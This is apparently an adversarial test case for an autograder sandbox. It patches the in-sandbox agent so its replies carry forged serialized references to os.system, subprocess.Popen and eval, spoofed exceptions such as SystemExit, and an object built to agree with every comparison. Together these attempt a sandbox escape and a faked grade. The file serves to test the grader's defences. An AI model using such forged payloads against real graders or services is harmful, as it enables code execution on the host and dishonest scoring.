# Tries: sends references of its own making: to objects of the test runner that it never got, to
#   modules and functions that the test runner could import, and to objects that say yes to everything.
# Kind: scores
# Stock: no
# Quick: yes

# %% first
import itertools
import struct
import sys

for name, agent in list(sys.modules.items()):
    if name.endswith("inside.agent"):
        text = agent.dumps
        number = struct.Struct("<I").pack
        special = tuple(sys.modules["autograder.sandbox.inside.proxies"].FORWARDED)

        def described(start, kind, module, bases=b""):
            parts = [b"o", number(start), text("class"), text(kind), text(module)]
            parts += [b"l", number(bases.count(b"G")), bases, text(special), b"N"]
            return b"".join(parts)

        def imported(module, kind):
            return b"G" + text(module) + text(kind)

        counter = itertools.count(1000, 10)

        def forged():
            start = next(counter)
            agreeing = described(start, "float", "builtins")
            yield b"o" + number(start + 1) + text("object") + agreeing + b"N"
            yield b"m" + number(0)
            yield b"m" + number(7)
            yield b"p" + number(3)
            yield imported("os", "system")
            yield imported("subprocess", "Popen")
            yield imported("builtins", "eval")
            yield imported("builtins", "AssertionError")
            yield imported("autograder.grading.remote.runner", "OutOfTime")
            yield described(
                start + 2, "AssertionError", "builtins", imported("builtins", "Exception")
            )
            yield b"E" + imported("builtins", "KeyboardInterrupt") + text(()) + text("") + text({})
            yield b"E" + imported("builtins", "SystemExit") + text((0,)) + text("") + text({})

        def reply(values=itertools.cycle(range(12))):
            value = list(forged())[next(values)]
            return b"t" + number(4) + text("value") + value + b"l" + number(0) + b"N"

        agent.Agent.answer_do = lambda self, known, *operands: reply()
